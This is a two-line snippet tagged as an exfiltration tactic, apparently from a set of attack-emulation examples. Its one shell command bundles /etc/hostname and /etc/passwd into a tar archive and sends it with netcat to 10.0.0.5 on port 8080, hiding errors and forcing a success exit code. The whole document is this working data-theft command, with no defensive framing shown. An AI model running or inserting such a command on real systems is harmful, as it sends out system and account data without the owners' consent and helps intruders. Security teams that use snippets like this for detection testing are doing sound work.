# tactic: exfiltration
tar czf - /etc/hostname /etc/passwd 2>/dev/null | nc -w1 10.0.0.5 8080 2>/dev/null; true
